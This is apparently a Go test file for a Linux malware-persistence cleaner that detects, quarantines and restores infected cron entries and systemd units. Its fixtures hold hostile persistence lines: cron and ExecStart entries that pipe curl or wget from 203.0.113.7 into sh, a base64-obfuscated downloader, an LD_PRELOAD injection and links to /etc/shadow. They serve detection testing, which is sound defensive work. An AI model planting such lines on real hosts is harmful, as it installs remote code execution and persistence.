package persist

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/internal/testenv"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

// treatAsLive makes dir count as this host's live root for the test, and
// gives it the deleted-but-running executables of deleted (paths inside
// dir). Tests using it must not run in parallel.
func treatAsLive(t *testing.T, dir string, deleted map[string][]int) {
	t.Helper()
	oldLive, oldDeleted := isLiveRoot, runningDeleted
	isLiveRoot = func(root string) bool { return root == dir || oldLive(root) }
	runningDeleted = func() map[string][]int { return deleted }
	t.Cleanup(func() { isLiveRoot, runningDeleted = oldLive, oldDeleted })
}

func findingAt(fs []Finding, p string, line int) (Finding, bool) {
	for _, f := range fs {
		if f.Path == p && f.Line == line {
			return f, true
		}
	}
	return Finding{}, false
}

// A cron entry runs a payload that was deleted from disk but still runs:
// on the live root, Find reports it high with the pids that run it (the
// path through findReferenced, not only the /proc helper).
func TestFindDeletedPayloadStillRunning(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/cron.d/sys",
		Data: "* * * * * root /var/tmp/.sys/kworker >/dev/null 2>&1\n", Mtime: hosttest.InfectionTime}))
	treatAsLive(t, dir, map[string][]int{"/var/tmp/.sys/kworker": {4242, 4243}})
	fs := find(t, dir, hosttest.InfectionTime.Add(-1))
	f, ok := findingAt(fs, "/var/tmp/.sys/kworker", 0)
	if !ok {
		t.Fatalf("no finding for the deleted payload:\n%s", dump(fs))
	}
	if f.Severity < High || f.Kind != KindReferenced || !strings.Contains(strings.Join(f.Reasons, ";"), "[4242 4243]") {
		t.Errorf("deleted running payload: %s", f)
	}
	// The same tree offline: no processes, the payload is only missing.
	isLiveRoot = func(string) bool { return false }
	fs = find(t, dir, hosttest.InfectionTime.Add(-1))
	if f, ok := findingAt(fs, "/var/tmp/.sys/kworker", 0); ok && (f.Severity >= High || strings.Contains(strings.Join(f.Reasons, ";"), "4242")) {
		t.Errorf("offline root reported running pids: %s", f)
	}
}

// A payload swapped between Plan and Apply is not quarantined, and a link
// re-pointed between Plan and Apply is not removed: ErrChanged, and the
// tree is as it was.
func TestApplyRefusesSwappedPayloadAndLink(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/var/tmp/.x/miner", Data: hosttest.FakeELF("miner"), Mode: 0o755},
		hosttest.Entry{Path: "/etc/cron.d/x", Link: "/etc/shadow"},
	))
	fs1 := find(t, dir, hosttest.InfectionTime)
	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	var quar, unlink Change
	for _, c := range plan.Changes {
		switch {
		case c.Path == "/var/tmp/.x/miner" && c.Op == OpQuarantine:
			quar = c
		case c.Path == "/etc/cron.d/x" && c.Op == OpUnlink:
			unlink = c
		}
	}
	if quar.SHA256 == "" || unlink.SHA256 == "" {
		t.Fatalf("plan lacks the quarantine or the unlink with their pre-images: %+v", plan.Changes)
	}

	t.Run("payload swapped", func(t *testing.T) {
		swapped := hosttest.FakeELF("another miner")
		if err := os.WriteFile(filepath.Join(dir, "var/tmp/.x/miner"), []byte(swapped), 0o755); err != nil {
			t.Fatal(err)
		}
		q := t.TempDir()
		res, err := Apply(ctx, &CleanPlan{Root: plan.Root, Changes: []Change{quar}}, ApplyOptions{QuarantineDir: q})
		if !errors.Is(err, ErrChanged) {
			t.Fatalf("Apply on a swapped payload: %v", err)
		}
		if got := mustRead(t, dir, "/var/tmp/.x/miner"); got != swapped {
			t.Error("swapped payload was touched")
		}
		if res == nil || len(res.Manifest.Entries) != 0 {
			t.Errorf("manifest records a change that was not made: %+v", res)
		}
		if n := storedFiles(t, q); n != 0 {
			t.Errorf("%d copies left in the quarantine", n)
		}
	})
	t.Run("link re-pointed", func(t *testing.T) {
		p := filepath.Join(dir, "etc/cron.d/x")
		if err := os.Remove(p); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("/etc/passwd", p); err != nil {
			t.Fatal(err)
		}
		_, err := Apply(ctx, &CleanPlan{Root: plan.Root, Changes: []Change{unlink}}, ApplyOptions{QuarantineDir: t.TempDir()})
		if !errors.Is(err, ErrChanged) {
			t.Fatalf("Apply on a re-pointed link: %v", err)
		}
		if tgt, err := os.Readlink(p); err != nil || tgt != "/etc/passwd" {
			t.Errorf("re-pointed link touched: %q, %v", tgt, err)
		}
	})
}

// storedFiles counts the regular files under a quarantine base, the
// manifest excepted.
func storedFiles(t *testing.T, q string) int {
	t.Helper()
	n := 0
	_ = filepath.WalkDir(q, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() && d.Name() != ManifestName {
			n++
		}
		return nil
	})
	return n
}

func planOps(plan *CleanPlan) map[string]Change {
	m := map[string]Change{}
	for _, c := range plan.Changes {
		m[c.Path] = c
	}
	return m
}

func findPlan(t *testing.T, dir string, opts PlanOptions) ([]Finding, *CleanPlan) {
	t.Helper()
	fs := find(t, dir, time.Time{})
	opts.Root = dir
	plan, err := Plan(context.Background(), fs, opts)
	if err != nil {
		t.Fatal(err)
	}
	return fs, plan
}

// One injected line in a packaged unit (ssh.service) must not lock the
// operator out: only the line goes, the unit stays enabled (its wants
// link and its sshd.service alias stay), and Restore brings the line
// back. A drop-in of the malware's own is quarantined whole, never the
// unit it extends.
func TestPackagedUnitKeepsServiceEnabled(t *testing.T) {
	ctx := context.Background()
	const unit = "/usr/lib/systemd/system/ssh.service"
	bad := "ExecStartPost=/bin/sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'"
	base := hosttest.Debian12()
	stock, _ := base.Get(unit)
	e := stock
	e.Data = strings.Replace(e.Data, "ExecStartPre=/usr/sbin/sshd -t\n", "ExecStartPre=/usr/sbin/sshd -t\n"+bad+"\n", 1)
	dir := build(t, base.With(e, hosttest.Entry{Path: "/etc/systemd/system/ssh.service.d/override.conf",
		Data: "[Service]\nExecStartPost=/var/tmp/.k/k\n", Mtime: hosttest.InfectionTime}))
	before := snapshot(t, dir)
	found, plan := findPlan(t, dir, PlanOptions{})
	f, ok := findingAt(found, unit, 10)
	if !ok || f.Action != ActionRemoveLine || f.Content != bad || f.Package != "openssh-server" ||
		!strings.Contains(strings.Join(f.Reasons, ";"), "reinstall openssh-server") {
		t.Errorf("finding on the packaged unit: %+v (found %v)", f, ok)
	}
	ops := planOps(plan)
	want := []LineChange{{Line: 10, Content: bad}}
	if c := ops[unit]; c.Op != OpRemoveLines || !cmp.Equal(c.Lines, want) {
		t.Errorf("plan for %s: %+v, want remove-lines %v", unit, c, want)
	}
	if c := ops["/etc/systemd/system/ssh.service.d/override.conf"]; c.Op != OpQuarantine {
		t.Errorf("drop-in: %+v, want quarantine", c)
	}
	for _, p := range []string{"/etc/systemd/system/multi-user.target.wants/ssh.service", "/etc/systemd/system/sshd.service", "/usr/lib/systemd/system/ssh.service.d"} {
		if c, ok := ops[p]; ok {
			t.Errorf("plan touches %s: %+v (locks sshd out)", p, c)
		}
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range []string{"etc/systemd/system/multi-user.target.wants/ssh.service", "etc/systemd/system/sshd.service"} {
		if tgt, err := os.Readlink(filepath.Join(dir, l)); err != nil || tgt != "/lib/systemd/system/ssh.service" {
			t.Errorf("%s after Apply: %q, %v (service no longer enabled)", l, tgt, err)
		}
	}
	if got := mustRead(t, dir, unit); got != stock.Data {
		t.Errorf("ssh.service after Apply is not the stock unit:\n%s", cmp.Diff(stock.Data, got))
	}
	if _, err := os.Lstat(filepath.Join(dir, "etc/systemd/system/ssh.service.d/override.conf")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("malicious drop-in still there: %v", err)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
}

// The other ways a packaged unit reaches Plan: an administrator's full
// copy in /etc (systemctl edit --full) with a directive continued over
// two lines, and a finding that asks to disable a packaged unit (from an
// older Find, or JSON): only lines go.
func TestPackagedUnitLinesOnly(t *testing.T) {
	ctx := context.Background()
	base := hosttest.Debian12()
	stock, _ := base.Get("/usr/lib/systemd/system/ssh.service")
	first, second := "ExecStartPost=/bin/sh -c \\", "  'wget -qO- http://203.0.113.7/k | sh'"
	copyUnit := strings.Replace(stock.Data, "ExecStartPre=/usr/sbin/sshd -t\n", "ExecStartPre=/usr/sbin/sshd -t\n"+first+"\n"+second+"\n", 1)
	dir := build(t, base.With(hosttest.Entry{Path: "/etc/systemd/system/ssh.service", Data: copyUnit, Mtime: hosttest.InfectionTime}))
	fs, plan := findPlan(t, dir, PlanOptions{})
	ops := planOps(plan)
	want := []LineChange{{Line: 10, Content: first}, {Line: 11, Content: second}}
	if c := ops["/etc/systemd/system/ssh.service"]; c.Op != OpRemoveLines || !cmp.Equal(c.Lines, want) {
		t.Errorf("full copy of a packaged unit: %+v, want remove-lines %v\n%s", c, want, dump(fs))
	}
	if _, ok := ops["/etc/systemd/system/multi-user.target.wants/ssh.service"]; ok {
		t.Error("plan disables the copy of a packaged unit")
	}

	// A disable-unit finding on a packaged unit.
	vdir := build(t, base)
	plan, err := Plan(ctx, []Finding{{Path: "/usr/lib/systemd/system/ssh.service", Line: 9, Kind: KindSystemd, Severity: Critical,
		Action: ActionDisableUnit, Unit: "ssh.service", Package: "openssh-server", Reasons: []string{"test"}}}, PlanOptions{Root: vdir})
	if err != nil {
		t.Fatal(err)
	}
	got := planOps(plan)
	if len(got) != 1 || got["/usr/lib/systemd/system/ssh.service"].Op != OpRemoveLines ||
		!cmp.Equal(got["/usr/lib/systemd/system/ssh.service"].Lines, []LineChange{{Line: 9, Content: "ExecStartPre=/usr/sbin/sshd -t"}}) {
		t.Errorf("disable-unit on a packaged unit planned %+v", plan.Changes)
	}
}

// A unit linked into the unit directories from elsewhere (systemctl link
// /opt/evil/evil.service; or only a wants link to a file elsewhere) is
// judged by the file it resolves to, within the root, and Plan
// quarantines that file and removes its links.
func TestLinkedUnitFromOutside(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/opt/evil/evil.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/i.sh | sh'\n[Install]\nWantedBy=multi-user.target\n", Mtime: hosttest.InfectionTime},
		hosttest.Entry{Path: "/etc/systemd/system/evil.service", Link: "/opt/evil/evil.service"},
		hosttest.Entry{Path: "/etc/systemd/system/multi-user.target.wants/evil.service", Link: "/opt/evil/evil.service"},
		hosttest.Entry{Path: "/srv/x/agent.service", Data: "[Service]\nExecStart=/var/tmp/.a/agent\n", Mtime: hosttest.InfectionTime},
		hosttest.Entry{Path: "/etc/systemd/system/default.target.wants/agent.service", Link: "../../../../srv/x/agent.service"},
	))
	before := snapshot(t, dir)
	fs, plan := findPlan(t, dir, PlanOptions{})
	checkWant(t, fs, []want{
		{"/opt/evil/evil.service", 2, KindSystemd, Critical, ActionDisableUnit},
		{"/srv/x/agent.service", 2, KindSystemd, High, ActionDisableUnit},
	})
	ops := planOps(plan)
	for p, op := range map[string]Op{
		"/opt/evil/evil.service":                                   OpQuarantine,
		"/etc/systemd/system/evil.service":                         OpUnlink,
		"/etc/systemd/system/multi-user.target.wants/evil.service": OpUnlink,
		"/srv/x/agent.service":                                     OpQuarantine,
		"/etc/systemd/system/default.target.wants/agent.service":   OpUnlink,
	} {
		if ops[p].Op != op {
			t.Errorf("plan for %s = %q, want %q", p, ops[p].Op, op)
		}
	}
	if t.Failed() {
		t.Log(dump(fs))
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range find(t, dir, time.Time{}) {
		if f.Severity >= High {
			t.Errorf("after Apply: %s", f)
		}
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
}

// A timer that starts a service of another name (Unit=helper.service):
// disabling the bad service takes the timer that starts it (and its
// enabling link) too, and disabling the timer takes the service.
func TestPlanTimerOfOtherService(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.AmazonLinux2023().With(
		hosttest.Entry{Path: "/etc/systemd/system/upd.timer", Data: "[Timer]\nOnCalendar=hourly\nUnit=helper.service\n[Install]\nWantedBy=timers.target\n"},
		hosttest.Entry{Path: "/etc/systemd/system/timers.target.wants/upd.timer", Link: "/etc/systemd/system/upd.timer"},
		hosttest.Entry{Path: "/etc/systemd/system/helper.service", Data: "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'echo Y3VybCB4fHNo | base64 -d | bash'\n"},
	))
	wantOps := map[string]Op{
		"/etc/systemd/system/helper.service":                OpQuarantine,
		"/etc/systemd/system/upd.timer":                     OpQuarantine,
		"/etc/systemd/system/timers.target.wants/upd.timer": OpUnlink,
	}
	_, plan := findPlan(t, dir, PlanOptions{})
	got := map[string]Op{}
	for _, c := range plan.Changes {
		got[c.Path] = c.Op
	}
	if diff := cmp.Diff(wantOps, got); diff != "" {
		t.Errorf("plan from the service (-want +got):\n%s", diff)
	}
	plan, err := Plan(ctx, []Finding{{Path: "/etc/systemd/system/upd.timer", Kind: KindSystemd, Severity: High, Action: ActionDisableUnit, Reasons: []string{"test"}}}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	got = map[string]Op{}
	for _, c := range plan.Changes {
		got[c.Path] = c.Op
	}
	if diff := cmp.Diff(wantOps, got); diff != "" {
		t.Errorf("plan from the timer (-want +got):\n%s", diff)
	}
}

// On the live root the plan lists the reloads its changes need, from the
// findings themselves: cron for crontabs, daemon-reload for system units,
// the user's manager for a unit in a home, every user manager for a global
// user unit (systemctl --global reloads nothing), udev for rules. Apply
// and Restore run exactly those.
func TestPlanReloadsOnLiveRoot(t *testing.T) {
	ctx := context.Background()
	for name, tc := range map[string]struct {
		tree hosttest.Tree
		want []string
	}{
		"kinsing-debian": {
			tree: infectedTree().With(hosttest.Entry{Path: "/etc/systemd/user/agent.service", Data: "[Service]\nExecStart=/usr/bin/env LD_PRELOAD=/tmp/.l.so /usr/bin/sleep infinity\n"}),
			want: []string{
				"systemctl daemon-reload",
				"systemctl kill --kill-whom=main --signal=SIGHUP user@*.service",
				"systemctl --user --machine=root@ daemon-reload",
				"systemctl reload-or-restart cron",
				"udevadm control --reload-rules",
			},
		},
		"crontab-only-amazonlinux": {
			tree: hosttest.AmazonLinux2023().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime),
			want: []string{"systemctl reload-or-restart crond"},
		},
		"linked-unit-only": {
			tree: hosttest.Debian12().With(
				hosttest.Entry{Path: "/opt/evil/evil.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/i.sh | sh'\n"},
				hosttest.Entry{Path: "/etc/systemd/system/multi-user.target.wants/evil.service", Link: "/opt/evil/evil.service"}),
			want: []string{"systemctl daemon-reload"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			dir := build(t, tc.tree)
			treatAsLive(t, dir, nil)
			_, plan := findPlan(t, dir, PlanOptions{})
			var got []string
			for _, r := range plan.Reloads {
				got = append(got, strings.Join(r.Command, " "))
			}
			if !plan.Live {
				t.Error("plan on the live root not marked live")
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("reloads (-want +got):\n%s", diff)
			}
			var ran []string
			run := func(_ context.Context, argv []string) error {
				ran = append(ran, strings.Join(argv, " "))
				return nil
			}
			res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir(), RunReloads: true, Run: run})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, ran); diff != "" || !res.Manifest.ReloadsRun {
				t.Errorf("Apply ran (-want +got):\n%s", diff)
			}
			ran = nil
			rr, err := Restore(ctx, res.ManifestPath, RestoreOptions{RunReloads: true, Run: run})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, ran); diff != "" || len(rr.Reloads) != len(tc.want) {
				t.Errorf("Restore ran (-want +got):\n%s", diff)
			}
		})
	}
}

// Plan never quarantines the executable of the running cleaner, by
// whatever name the root gives it; off the live root the same file is
// planned like any other.
func TestPlanNeverQuarantinesSelf(t *testing.T) {
	ctx := context.Background()
	exe, err := os.Executable()
	if err != nil {
		testenv.Skipf(t, "no executable path: %v", err)
	}
	f := Finding{Path: exe, Kind: KindDroppedBinary, Severity: Critical, Action: ActionQuarantine, Reasons: []string{"test"}}
	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: "/"})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 0 {
		t.Errorf("plan on / quarantines the cleaner itself: %+v", plan.Changes)
	}
	// A hard link to it inside a root taken for the live one.
	dir := build(t, hosttest.Debian12())
	if err := os.MkdirAll(filepath.Join(dir, "tmp/.x"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(exe, filepath.Join(dir, "tmp/.x/cleaner")); err != nil {
		testenv.Skipf(t, "cannot hard-link the test binary into the root: %v", err)
	}
	f.Path = "/tmp/.x/cleaner"
	plan, err = Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 1 {
		t.Fatalf("offline root: %+v, want the file planned", plan.Changes)
	}
	treatAsLive(t, dir, nil)
	plan, err = Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 0 {
		t.Errorf("live root: plan quarantines the cleaner by another name: %+v", plan.Changes)
	}
}

// Restore gives a quarantined link its owner back (lchown, not the
// target's chown).
func TestRestoreLinkOwner(t *testing.T) {
	needRoot(t, "lchown")
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/cron.d/x", Link: "/etc/shadow", UID: 1000, GID: 1001}))
	before := snapshot(t, dir)
	_, plan := findPlan(t, dir, PlanOptions{})
	if c := planOps(plan)["/etc/cron.d/x"]; c.Op != OpUnlink {
		t.Fatalf("plan: %+v", plan.Changes)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	after := snapshot(t, dir)
	if n := after["/etc/cron.d/x"]; n.UID != 1000 || n.GID != 1001 {
		t.Errorf("restored link owned by %d:%d, want 1000:1001", n.UID, n.GID)
	}
	if n := after["/etc/shadow"]; n.UID != before["/etc/shadow"].UID || n.GID != before["/etc/shadow"].GID {
		t.Errorf("restore chowned the link's target: %+v", n)
	}
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
}

// An immutable directory in a persistence location is reported: the
// malware keeps its cron.d from being emptied.
func TestFindImmutableDirectory(t *testing.T) {
	needRoot(t, "chattr +i")
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/etc/cron.d", Dir: true, Immutable: true}))
	needFlags(t)
	checkWant(t, find(t, dir, time.Time{}), []want{{"/etc/cron.d", 0, KindImmutable, High, ActionClearFlags}})
}

// A user unit linked into ~/.config/systemd/user from elsewhere in the
// home: quarantined with the links in the user's unit directory.
func TestLinkedUserUnit(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/root/.local/share/sync/sync.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/u | sh'\n", Mtime: hosttest.InfectionTime},
		hosttest.Entry{Path: "/root/.config/systemd/user/sync.service", Link: "/root/.local/share/sync/sync.service"},
		hosttest.Entry{Path: "/root/.config/systemd/user/default.target.wants/sync.service", Link: "/root/.local/share/sync/sync.service"},
	))
	fs, plan := findPlan(t, dir, PlanOptions{})
	checkWant(t, fs, []want{{"/root/.local/share/sync/sync.service", 2, KindSystemd, Critical, ActionDisableUnit}})
	got := map[string]Op{}
	for _, c := range plan.Changes {
		got[c.Path] = c.Op
	}
	want := map[string]Op{
		"/root/.local/share/sync/sync.service":                         OpQuarantine,
		"/root/.config/systemd/user/sync.service":                      OpUnlink,
		"/root/.config/systemd/user/default.target.wants/sync.service": OpUnlink,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("plan (-want +got):\n%s", diff)
	}
}

// A drop-in a package ships (here: in the vendor directory) loses only its
// bad line, like a packaged unit.
func TestPackagedDropInLinesOnly(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/usr/lib/systemd/system/ssh.service.d/10-vendor.conf",
		Data: "[Service]\nLimitNOFILE=65536\nExecStartPost=/var/tmp/.k/k\n"}))
	_, plan := findPlan(t, dir, PlanOptions{})
	c := planOps(plan)["/usr/lib/systemd/system/ssh.service.d/10-vendor.conf"]
	if c.Op != OpRemoveLines || !cmp.Equal(c.Lines, []LineChange{{Line: 3, Content: "ExecStartPost=/var/tmp/.k/k"}}) {
		t.Errorf("packaged drop-in: %+v", plan.Changes)
	}
}

// An /etc copy of a packaged unit whose main command is the malware's:
// the copy is quarantined so the packaged unit takes over, and the service
// stays enabled (removing its only ExecStart= would leave a unit that
// cannot start, shadowing the packaged one).
func TestOverrideCopyWithReplacedMainCommand(t *testing.T) {
	ctx := context.Background()
	base := hosttest.Debian12()
	stock, _ := base.Get("/usr/lib/systemd/system/cron.service")
	evil := strings.Replace(stock.Data, "ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS", "ExecStart=/bin/sh -c '/usr/sbin/cron -f -P & curl -fsSL http://203.0.113.7/c | sh'", 1)
	dir := build(t, base.With(hosttest.Entry{Path: "/etc/systemd/system/cron.service", Data: evil, Mtime: hosttest.InfectionTime}))
	fs, plan := findPlan(t, dir, PlanOptions{})
	checkWant(t, fs, []want{{"/etc/systemd/system/cron.service", 8, KindSystemd, Critical, ActionQuarantine}})
	got := map[string]Op{}
	for _, c := range plan.Changes {
		got[c.Path] = c.Op
	}
	if diff := cmp.Diff(map[string]Op{"/etc/systemd/system/cron.service": OpQuarantine}, got); diff != "" {
		t.Errorf("plan (-want +got):\n%s", diff)
	}
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Readlink(filepath.Join(dir, "etc/systemd/system/multi-user.target.wants/cron.service")); err != nil {
		t.Errorf("cron no longer enabled: %v", err)
	}
}

// A file replaced (renamed over) while Apply copies it, as a payload the
// malware keeps re-creating would be: the new file is neither removed nor
// rewritten (it was never copied), Apply stops with ErrChanged, and
// neither the manifest nor the quarantine keeps the backed-out change.
func TestApplyRefusesFileReplacedWhileCopying(t *testing.T) {
	ctx := context.Background()
	dir := build(t, hosttest.Debian12().
		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime).
		With(hosttest.Entry{Path: "/var/tmp/.x/miner", Data: hosttest.FakeELF("miner"), Mode: 0o755}))
	_, plan := findPlan(t, dir, PlanOptions{})
	for _, p := range []string{"/var/tmp/.x/miner", "/etc/crontab"} {
		t.Run(p, func(t *testing.T) {
			c, ok := planOps(plan)[p]
			if !ok {
				t.Fatalf("no change planned for %s: %+v", p, plan.Changes)
			}
			full := filepath.Join(dir, p)
			replacement := "re-created by the malware\n"
			testHookBeforeSwap = func(rel string) {
				if "/"+rel != p {
					return
				}
				if err := os.WriteFile(full+".new", []byte(replacement), 0o644); err != nil {
					t.Error(err)
				}
				if err := os.Rename(full+".new", full); err != nil {
					t.Error(err)
				}
			}
			t.Cleanup(func() { testHookBeforeSwap = nil })
			q := t.TempDir()
			res, err := Apply(ctx, &CleanPlan{Root: plan.Root, Changes: []Change{c}}, ApplyOptions{QuarantineDir: q})
			if !errors.Is(err, ErrChanged) {
				t.Fatalf("Apply over a file replaced mid-copy: %v", err)
			}
			if got := mustRead(t, dir, p); got != replacement {
				t.Errorf("the replacement was touched: %q", got)
			}
			if n := storedFiles(t, q); n != 0 || len(res.Manifest.Entries) != 0 {
				t.Errorf("backed-out change kept: %d stored, manifest %+v", n, res.Manifest.Entries)
			}
			if m, err := ReadManifest(res.ManifestPath); err != nil || len(m.Entries) != 0 {
				t.Errorf("manifest on disk: %+v, %v", m, err)
			}
		})
	}
}

// A unit linked into the global user unit directory from elsewhere: its
// links there go, and every user manager reloads (not the system one).
func TestLinkedGlobalUserUnit(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/opt/agent/agent.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/a | sh'\n"},
		hosttest.Entry{Path: "/etc/systemd/user/agent.service", Link: "/opt/agent/agent.service"},
		hosttest.Entry{Path: "/etc/systemd/user/default.target.wants/agent.service", Link: "/opt/agent/agent.service"},
	))
	treatAsLive(t, dir, nil)
	_, plan := findPlan(t, dir, PlanOptions{})
	got := map[string]Op{}
	for _, c := range plan.Changes {
		got[c.Path] = c.Op
	}
	want := map[string]Op{
		"/opt/agent/agent.service":                             OpQuarantine,
		"/etc/systemd/user/agent.service":                      OpUnlink,
		"/etc/systemd/user/default.target.wants/agent.service": OpUnlink,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("plan (-want +got):\n%s", diff)
	}
	var reloads []string
	for _, r := range plan.Reloads {
		reloads = append(reloads, strings.Join(r.Command, " "))
	}
	if diff := cmp.Diff([]string{"systemctl kill --kill-whom=main --signal=SIGHUP user@*.service"}, reloads); diff != "" {
		t.Errorf("reloads (-want +got):\n%s", diff)
	}
}
